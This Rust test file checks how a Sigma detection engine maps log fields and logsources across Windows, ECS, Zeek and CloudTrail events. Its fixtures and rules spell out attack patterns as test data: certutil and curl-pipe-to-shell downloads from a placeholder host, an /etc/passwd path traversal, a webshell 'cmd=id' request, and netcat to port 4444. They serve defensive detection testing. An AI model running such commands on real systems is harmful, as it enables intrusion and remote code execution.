//! Logsource and field mapping through the built-in pipelines (data files under `pipelines/`):
//! the same Sigma rule on EVTX-shaped events (Sysmon 1 and Security 4688) and on ECS documents.

mod common;
use serde_json::json;
use yagura_sigma::{Pipeline, Plan};

const RULE: &str = "title: Certutil download\nid: 5a0f0000-0000-4000-8000-0000000000aa\nlogsource: {category: process_creation, product: windows}\ndetection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: sel\n";
const LINUX_RULE: &str = "title: Curl to bash\nlogsource: {category: process_creation, product: linux}\ndetection:\n  sel: {Image|endswith: '/bash', CommandLine|contains: 'curl'}\n  condition: sel\n";

fn fires(yaml: &str, pipeline: &Pipeline, ev: serde_json::Value) -> bool {
    let set = common::rules(yaml);
    let plan = Plan::compile(&set, pipeline);
    let mut s = plan.scratch();
    let mut out = Vec::new();
    plan.evaluate(&common::record(&ev), &mut s, &mut out);
    !out.is_empty()
}

#[test]
fn windows_pipeline_maps_process_creation_to_sysmon_1_and_security_4688() {
    let w = Pipeline::windows();
    let sysmon = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"});
    assert!(fires(RULE, w, sysmon.clone()));
    // Security 4688 names the image NewProcessName (thor.yml's mapping).
    let security = json!({"Channel": "Security", "EventID": 4688,
        "NewProcessName": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe"});
    assert!(fires(RULE, w, security));
    // The same fields on another event id or channel are not process creations.
    let mut other = sysmon.clone();
    other["EventID"] = json!(3);
    assert!(!fires(RULE, w, other));
    let mut app = sysmon;
    app["Channel"] = json!("Application");
    assert!(!fires(RULE, w, app));
}

#[test]
fn windows_pipeline_keeps_other_products_off_windows_events() {
    let w = Pipeline::windows();
    let ev = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
        "Image": "/usr/bin/bash", "CommandLine": "curl x | bash"});
    assert!(!fires(LINUX_RULE, w, ev));
    let set = common::rules(LINUX_RULE);
    assert_eq!(Plan::compile(&set, w).inactive_rules(), [0]);
}

#[test]
fn ecs_pipeline_maps_field_names_and_logsources() {
    let e = Pipeline::ecs();
    let winlogbeat = json!({"winlog.channel": "Microsoft-Windows-Sysmon/Operational", "event.code": "1",
        "process.executable": "C:\\Windows\\System32\\certutil.exe",
        "process.command_line": "certutil.exe -urlcache -split -f http://x/a"});
    assert!(fires(RULE, e, winlogbeat.clone()));
    let mut network = winlogbeat;
    network["event.code"] = json!("3");
    assert!(!fires(RULE, e, network));
    let linux = json!({"event.category": "process", "event.type": "start", "host.os.type": "linux",
        "process.executable": "/usr/bin/bash", "process.command_line": "bash -c 'curl http://x | sh'"});
    assert!(fires(LINUX_RULE, e, linux.clone()));
    let mut mac = linux;
    mac["host.os.type"] = json!("macos");
    assert!(!fires(LINUX_RULE, e, mac));
}

fn sigmahq_rule(path: &str) -> String {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/sigma/rules");
    std::fs::read_to_string(root.join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

#[test]
fn ecs_pipeline_looks_unmapped_fields_up_under_their_own_name_and_the_prefix() {
    // `unmapped_prefix: winlog.event_data.` is an addition: a Sigma field no mapping names is
    // read under its own name (any ECS or custom JSON document) and under the prefix (Winlogbeat).
    let e = Pipeline::ecs();
    assert_eq!(
        e.map_field(None, "message"),
        ["message", "winlog.event_data.message"]
    );
    let auth = "title: Root login failure\nlogsource: {product: linux, service: auth}\ndetection:\n  sel:\n    message|contains: 'Failed password'\n    user: root\n  condition: sel\n";
    let own = json!({"event.dataset": "system.auth", "user": "root",
        "message": "sshd[42]: Failed password for root from 203.0.113.9 port 22 ssh2"});
    assert!(fires(auth, e, own.clone()));
    let prefixed = json!({"event.dataset": "system.auth", "winlog.event_data.user": "root",
        "winlog.event_data.message": "Failed password for root"});
    assert!(fires(auth, e, prefixed));
    let mut other_user = own.clone();
    other_user["user"] = json!("alice");
    assert!(!fires(auth, e, other_user));
    let mut other_dataset = own;
    other_dataset["event.dataset"] = json!("nginx.access");
    assert!(!fires(auth, e, other_dataset));
    // fieldref reads the referenced field under either name.
    let same = "title: Same user\nlogsource: {product: linux, service: auth}\ndetection:\n  sel: {SourceUser|fieldref: TargetUser}\n  condition: sel\n";
    assert!(fires(
        same,
        e,
        json!({"event.dataset": "system.auth", "SourceUser": "bob", "TargetUser": "bob"})
    ));
    assert!(fires(
        same,
        e,
        json!({"event.dataset": "system.auth", "SourceUser": "bob", "winlog.event_data.TargetUser": "bob"})
    ));
    assert!(!fires(
        same,
        e,
        json!({"event.dataset": "system.auth", "SourceUser": "bob", "TargetUser": "eve"})
    ));
    // `null` on an unmapped field: absent under both names.
    let no_tty = "title: No tty\nlogsource: {product: linux, service: auth}\ndetection:\n  sel: {tty: null}\n  condition: sel\n";
    assert!(fires(no_tty, e, json!({"event.dataset": "system.auth"})));
    assert!(!fires(
        no_tty,
        e,
        json!({"event.dataset": "system.auth", "tty": "pts/0"})
    ));
    assert!(!fires(
        no_tty,
        e,
        json!({"event.dataset": "system.auth", "winlog.event_data.tty": "pts/0"})
    ));
    // Windows events in ECS still find their EventData fields under the prefix.
    let logon = "title: Interactive logon process\nlogsource: {product: windows, service: security}\ndetection:\n  sel: {EventID: 4624, LogonProcessName: User32}\n  condition: sel\n";
    let winlogbeat = json!({"winlog.channel": "Security", "event.code": "4624",
        "winlog.event_data.LogonProcessName": "User32"});
    assert!(fires(logon, e, winlogbeat.clone()));
    let mut advapi = winlogbeat;
    advapi["winlog.event_data.LogonProcessName"] = json!("Advapi");
    assert!(!fires(logon, e, advapi));
}

#[test]
fn ecs_pipeline_maps_sigmahq_web_rules_to_ecs_http_fields() {
    // SigmaHQ webserver rules (W3C field names) on an ECS access-log document as the nginx and
    // apache parsers write it: url.original is the request target, url.path and url.query its
    // parts.
    let e = Pipeline::ecs();
    let access = |method: &str, target: &str, ua: &str| {
        let (path, query) = target.split_once('?').unwrap_or((target, ""));
        let mut d = json!({"event.category": "web", "http.request.method": method,
            "url.original": target, "url.path": path, "http.response.status_code": 200,
            "http.version": "1.1", "user_agent.original": ua, "source.ip": "203.0.113.9"});
        if !query.is_empty() {
            d["url.query"] = json!(query);
        }
        d
    };
    // cs-method + cs-uri-query|endswith, where the rule puts path text in cs-uri-query.
    let f5 = sigmahq_rule("web/webserver_generic/web_f5_tm_utility_bash_api_request.yml");
    assert!(fires(
        &f5,
        e,
        access("POST", "/mgmt/tm/util/bash", "curl/8.5")
    ));
    assert!(!fires(
        &f5,
        e,
        access("GET", "/mgmt/tm/util/bash", "curl/8.5")
    ));
    // The same fields on a document that is not a web event: the logsource keeps it out.
    let mut proc = access("POST", "/mgmt/tm/util/bash", "curl/8.5");
    proc["event.category"] = json!("process");
    assert!(!fires(&f5, e, proc));
    // cs-uri-query|contains over the query string.
    let traversal =
        sigmahq_rule("web/webserver_generic/web_path_traversal_exploitation_attempt.yml");
    assert!(fires(
        &traversal,
        e,
        access(
            "GET",
            "/cgi-bin/view?file=../../../etc/passwd",
            "Mozilla/5.0"
        )
    ));
    assert!(!fires(
        &traversal,
        e,
        access("GET", "/index.html?file=a", "Mozilla/5.0")
    ));
    // cs-user-agent.
    let ua = sigmahq_rule("web/webserver_generic/web_susp_useragents.yml");
    assert!(fires(
        &ua,
        e,
        access("GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)")
    ));
    assert!(!fires(&ua, e, access("GET", "/", "Mozilla/5.0")));
    // A query-string rule: cs-uri-stem + cs-uri-query|startswith (url.path, url.query).
    let stem_query = "title: Webshell command
logsource: {category: webserver}
detection:
  sel:
    cs-uri-stem|endswith: '.jsp'
    cs-uri-query|startswith: 'cmd='
    c-ip|cidr: 203.0.113.0/24
    sc-status: 200
  condition: sel
";
    assert!(fires(
        stem_query,
        e,
        access("GET", "/irj/shell.jsp?cmd=id", "curl")
    ));
    assert!(!fires(
        stem_query,
        e,
        access("GET", "/irj/shell.jsp?x=1&cmd=id", "curl")
    ));
    assert!(!fires(
        stem_query,
        e,
        access("GET", "/irj/shell.php?cmd=id", "curl")
    ));
    // Proxy and DNS names.
    let proxy = "title: Proxy
logsource: {category: proxy}
detection:
  sel: {c-uri|contains: '/checkupdate.php', c-useragent: 'Mozilla/4.0', cs-host: 'www.example.org', c-uri-extension: php}
  condition: sel
";
    // Proxy rules run on proxy logs (here Squid as Elastic's integration names it), not on
    // web server access logs.
    let req = json!({"event.category": "web", "event.dataset": "squid.log", "url.original": "http://www.example.org/checkupdate.php?lng=en",
        "url.domain": "www.example.org", "url.extension": "php", "user_agent.original": "Mozilla/4.0"});
    assert!(fires(proxy, e, req));
    let dns = "title: DNS
logsource: {category: dns}
detection:
  sel: {query|endswith: '.oast.fun', record_type: TXT}
  condition: sel
";
    let q = json!({"event.category": "network", "network.protocol": "dns",
        "dns.question.name": "abc.oast.fun", "dns.question.type": "TXT"});
    assert!(fires(dns, e, q));
}

#[test]
fn ecs_pipeline_maps_network_and_zeek_field_names() {
    let e = Pipeline::ecs();
    let m = |f: &str| e.map_field(None, f);
    for (sigma, ecs) in [
        ("src_ip", "source.ip"),
        ("dst_ip", "destination.ip"),
        ("dst_port", "destination.port"),
        ("id.orig_h", "source.ip"),
        ("id.resp_h", "destination.ip"),
        ("id.resp_p", "destination.port"),
        ("uri", "url.original"),
        ("method", "http.request.method"),
        ("user_agent", "user_agent.original"),
        ("status_code", "http.response.status_code"),
        ("answers", "dns.answers.data"),
        ("qtype_name", "dns.question.type"),
        ("cs-uri-stem", "url.path"),
        ("cs-user-agent", "user_agent.original"),
        ("cs-referer", "http.request.referrer"),
        ("c-ip", "source.ip"),
        ("User", "user.name"),
        ("Image", "process.executable"),
    ] {
        assert_eq!(m(sigma), [ecs], "{sigma}");
    }
    assert_eq!(m("cs-uri-query"), ["url.query", "url.original"]);
    // Zeek columns without an ECS field, where the Zeek parser keeps them.
    assert_eq!(m("resp_mime_types"), ["zeek.http.resp_mime_types"]);
    assert_eq!(m("name"), ["zeek.smb_files.name", "name"]);
    // Cloud: ECS, else the parser's native prefix, and the own name.
    assert_eq!(m("eventName"), ["event.action", "eventName"]);
    assert_eq!(
        m("userIdentity.arn"),
        ["aws.cloudtrail.userIdentity.arn", "userIdentity.arn"]
    );
    let firewall = "title: Telnet
logsource: {category: firewall}
detection:
  sel: {dst_port: 23, action: allow}
  condition: sel
";
    // Firewall rules run on iptables records (Yagura's netfilter parser).
    let set = common::rules(firewall);
    assert!(Plan::compile(&set, e).inactive_rules().is_empty());
    let fw =
        json!({"event.dataset": "iptables.log", "destination.port": 23, "event.action": "allow"});
    assert!(fires(firewall, e, fw));
    // Linux network connection (Sysmon-for-Linux names) on an ECS network event.
    let conn = "title: Conn
logsource: {product: linux, category: network_connection}
detection:
  sel: {Image|endswith: '/nc', DestinationPort: 4444, DestinationIp|cidr: 198.51.100.0/24}
  condition: sel
";
    let ev = json!({"event.category": "network", "host.os.type": "linux", "process.executable": "/usr/bin/nc",
        "destination.ip": "198.51.100.7", "destination.port": 4444});
    assert!(fires(conn, e, ev));
}

/// SigmaHQ rules on records made by Yagura's own parsers (`yagura_normalize::parse`).
fn parsed(line: &str) -> yagura_event::Record {
    use yagura_normalize::parse::{Outcome, Parser, SourceType};
    let mut rec = yagura_event::Record::new();
    let out = Parser::new(SourceType::Auto).parse(line, 1_718_000_000_000, &mut rec);
    assert!(
        matches!(out, Outcome::Event { parsed: true, .. }),
        "{out:?}: {line}"
    );
    rec
}

fn fires_on(yaml: &str, pipeline: &Pipeline, rec: &yagura_event::Record) -> bool {
    let set = common::rules(yaml);
    let plan = Plan::compile(&set, pipeline);
    let mut s = plan.scratch();
    let mut out = Vec::new();
    plan.evaluate(rec, &mut s, &mut out);
    !out.is_empty()
}

#[test]
fn ecs_pipeline_runs_sigmahq_rules_on_parsed_logs() {
    let e = Pipeline::ecs();
    let access = |req: &str, ua: &str| {
        parsed(&format!(
            "203.0.113.9 - - [10/Jun/2024:06:13:20 +0000] \"{req} HTTP/1.1\" 200 612 \"-\" \"{ua}\""
        ))
    };
    let f5 = sigmahq_rule("web/webserver_generic/web_f5_tm_utility_bash_api_request.yml");
    assert!(fires_on(
        &f5,
        e,
        &access("POST /mgmt/tm/util/bash", "curl/8.5")
    ));
    assert!(!fires_on(
        &f5,
        e,
        &access("POST /mgmt/tm/util/ls", "curl/8.5")
    ));
    let traversal =
        sigmahq_rule("web/webserver_generic/web_path_traversal_exploitation_attempt.yml");
    assert!(fires_on(
        &traversal,
        e,
        &access("GET /cgi-bin/view?file=../../../etc/passwd", "Mozilla/5.0")
    ));
    let ua = sigmahq_rule("web/webserver_generic/web_susp_useragents.yml");
    assert!(fires_on(&ua, e, &access("GET /", "Nikto/2.5.0")));
    assert!(!fires_on(&ua, e, &access("GET /", "Mozilla/5.0")));

    // Zeek and CloudTrail: ecs.yml has no logsource entries for them yet, so this test adds
    // two to a copy; the field mappings are ecs.yml's own.
    let with_entries = format!(
        "{}  - id: zeek_http\n    match: {{product: zeek, service: http}}\n    conditions:\n      event.dataset: ['zeek.http']\n  - id: cloudtrail\n    match: {{product: aws, service: cloudtrail}}\n    conditions:\n      event.dataset: ['aws.cloudtrail']\n",
        yagura_sigma::pipeline::ECS
    );
    let p = Pipeline::from_yaml("ecs-test", &with_entries).unwrap();
    let webdav = sigmahq_rule("network/zeek/zeek_http_executable_download_from_webdav.yml");
    let zeek = |ua: &str, mime: &str| {
        parsed(&format!(
            "{{\"_path\":\"http\",\"ts\":1718000000.5,\"uid\":\"C1\",\"id.orig_h\":\"10.0.0.5\",\"id.orig_p\":50000,\"id.resp_h\":\"198.51.100.7\",\"id.resp_p\":80,\"method\":\"GET\",\"host\":\"files.example\",\"uri\":\"/share/update\",\"user_agent\":\"{ua}\",\"status_code\":200,\"resp_mime_types\":[\"{mime}\"]}}"
        ))
    };
    assert!(fires_on(
        &webdav,
        &p,
        &zeek(
            "Microsoft-WebDAV-MiniRedir/10.0.19045",
            "application/x-dosexec"
        )
    ));
    assert!(!fires_on(
        &webdav,
        &p,
        &zeek("Microsoft-WebDAV-MiniRedir/10.0.19045", "text/html")
    ));
    assert!(!fires_on(
        &webdav,
        &p,
        &zeek("Mozilla/5.0", "application/x-dosexec")
    ));
    let no_mfa =
        sigmahq_rule("cloud/aws/cloudtrail/aws_cloudtrail_console_login_success_without_mfa.yml");
    let login = |mfa: &str| {
        parsed(&format!(
            "{{\"eventVersion\":\"1.08\",\"eventTime\":\"2024-06-10T06:13:20Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"203.0.113.9\",\"userAgent\":\"Mozilla/5.0\",\"userIdentity\":{{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/bob\",\"userName\":\"bob\"}},\"responseElements\":{{\"ConsoleLogin\":\"Success\"}},\"additionalEventData\":{{\"MFAUsed\":\"{mfa}\"}},\"eventID\":\"e1\",\"eventType\":\"AwsConsoleSignIn\",\"recipientAccountId\":\"111122223333\"}}"
        ))
    };
    assert!(fires_on(&no_mfa, &p, &login("No")));
    assert!(!fires_on(&no_mfa, &p, &login("Yes")));
}
